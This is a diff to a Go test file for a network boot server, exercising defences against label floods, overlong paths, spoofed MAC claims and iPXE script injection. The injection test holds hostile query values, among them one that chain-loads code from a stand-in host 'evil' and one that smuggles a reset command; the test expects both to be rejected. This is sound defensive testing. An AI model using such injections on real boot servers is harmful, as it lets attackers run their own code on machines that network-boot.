@@ -19,9 +19,9 @@ import (
 // attacks a reviewer ran against the boot port, and check each is bounded
 // or refused.
 
-// get sends one GET on a connection of its own (closed after, so a loop
+// getClose sends one GET on a connection of its own (closed after, so a loop
 // stays under the per-client connection cap) and returns status and body.
-func get(t *testing.T, url string) (int, string) {
+func getClose(t *testing.T, url string) (int, string) {
 	t.Helper()
 	req, err := http.NewRequest("GET", url, nil)
 	if err != nil {
@@ -44,6 +44,9 @@ func get(t *testing.T, url string) (int, string) {
 // up to its budget.
 func TestLabelFlood(t *testing.T) {
 	e := newTestEnv(t, envOpts{files: map[string][]byte{"kernel": []byte("k")}})
+	// A stopped clock: no refill during the flood, however slow the machine.
+	t0 := time.Now()
+	e.srv.errBudget.now = func() time.Time { return t0 }
 	var q strings.Builder
 	for i := range 5000 {
 		fmt.Fprintf(&q, "&label.k%d=v", i)
@@ -55,13 +58,13 @@ func TestLabelFlood(t *testing.T) {
 		if i%2 == 1 {
 			path = "/kernel"
 		}
-		status, _ := get(t, e.url+path+"?x=1"+flood)
+		status, _ := getClose(t, e.url+path+"?x=1"+flood)
 		if status != http.StatusBadRequest {
 			t.Fatalf("GET %s with 5000 labels: HTTP %d, want 400", path, status)
 		}
 	}
 	// Within bounds, labels still reach the record.
-	if status, _ := get(t, e.url+"/kernel?label.rx_offload=off&label.run=3"); status != 200 {
+	if status, _ := getClose(t, e.url+"/kernel?label.rx_offload=off&label.run=3"); status != 200 {
 		t.Fatalf("GET /kernel with 2 labels: HTTP %d", status)
 	}
 	deadline := time.Now().Add(5 * time.Second)
@@ -83,7 +86,7 @@ func TestLabelFlood(t *testing.T) {
 	if last.Labels["rx_offload"] != "off" || last.Labels["run"] != "3" {
 		t.Errorf("labels within bounds lost: %v", last.Labels)
 	}
-	if len(fetches) > DefaultErrorRecordsPerMinute+10 {
+	if len(fetches) > DefaultErrorRecordsPerMinute+1 { // the budget and the good fetch
 		t.Errorf("%d failed fetches from one client put %d records; the budget is %d a minute", n, len(fetches), DefaultErrorRecordsPerMinute)
 	}
 	if labelBytes > 100 {
@@ -107,7 +110,7 @@ func TestLabelBounds(t *testing.T) {
 		"value with spaces": {"label.note=new%20cable", 200},
 		"33 labels":         {strings.Repeat("label.k=v&", 1) + labelsN(33), 400},
 	} {
-		if status, body := get(t, e.url+"/kernel?"+c.query); status != c.want {
+		if status, body := getClose(t, e.url+"/kernel?"+c.query); status != c.want {
 			t.Errorf("%s: HTTP %d, want %d: %s", name, status, c.want, body)
 		}
 	}
@@ -125,7 +128,7 @@ func labelsN(n int) string {
 // record at full length.
 func TestLongPath(t *testing.T) {
 	e := newTestEnv(t, envOpts{})
-	status, _ := get(t, e.url+"/"+strings.Repeat("a", 60_000))
+	status, _ := getClose(t, e.url+"/"+strings.Repeat("a", 60_000))
 	if status != http.StatusRequestURITooLong {
 		t.Errorf("60 kB path: HTTP %d, want 414", status)
 	}
@@ -164,7 +167,7 @@ func TestMACClaimRefused(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			e := newTestEnv(t, envOpts{hosts: []configs.Host{c.host}, observe: c.observe})
-			status, body := get(t, e.url+"/boot.ipxe?mac=52:54:00:00:00:01")
+			status, body := getClose(t, e.url+"/boot.ipxe?mac=52:54:00:00:00:01")
 			if status != http.StatusForbidden || strings.Contains(body, "hunter2") {
 				t.Fatalf("claim from 127.0.0.1: HTTP %d %q, want 403 without the script", status, body)
 			}
@@ -202,12 +205,12 @@ func TestMACClaimAllowed(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			e := newTestEnv(t, envOpts{hosts: []configs.Host{c.host}, observe: c.observe, files: map[string][]byte{"kernel": []byte("k")}})
-			status, body := get(t, e.url+"/boot.ipxe?mac=52:54:00:00:00:01")
+			status, body := getClose(t, e.url+"/boot.ipxe?mac=52:54:00:00:00:01")
 			if status != 200 || !strings.Contains(body, "board-01 secret=hunter2") {
 				t.Fatalf("claim: HTTP %d %q, want the host's script", status, body)
 			}
 			// The image fetch that follows carries no ?mac=: the claim bound it.
-			if status, _ := get(t, e.url+"/kernel"); status != 200 {
+			if status, _ := getClose(t, e.url+"/kernel"); status != 200 {
 				t.Fatalf("kernel: HTTP %d", status)
 			}
 			f := e.waitFetches(t, 2)
@@ -237,7 +240,7 @@ func TestMACClaimOncePerSighting(t *testing.T) {
 		t.Fatalf("the board's claim: HTTP %d", resp.StatusCode)
 	}
 	// Someone else, from 127.0.0.1, within the window.
-	if status, body := get(t, e.url+"/boot.ipxe?mac=52:54:00:00:00:01"); status != http.StatusForbidden {
+	if status, body := getClose(t, e.url+"/boot.ipxe?mac=52:54:00:00:00:01"); status != http.StatusForbidden {
 		t.Errorf("second claim: HTTP %d %q, want 403", status, body)
 	}
 }
@@ -255,12 +258,12 @@ func TestScriptInjection(t *testing.T) {
 		"?build=1%20||%20chain%20http://evil/x&label.note=a",
 		"?build=1&label.note=a%3Breset",
 	} {
-		status, body := get(t, e.url+"/boot.ipxe"+q)
+		status, body := getClose(t, e.url+"/boot.ipxe"+q)
 		if status != http.StatusBadRequest || strings.Contains(body, "\nchain") {
 			t.Errorf("%s: HTTP %d, want 400:\n%s", q, status, body)
 		}
 	}
-	status, body := get(t, e.url+"/boot.ipxe?build=42&label.note=rack-1")
+	status, body := getClose(t, e.url+"/boot.ipxe?build=42&label.note=rack-1")
 	if status != 200 || body != "#!ipxe\necho build 42 rack-1\n" {
 		t.Errorf("plain values: HTTP %d %q", status, body)
 	}
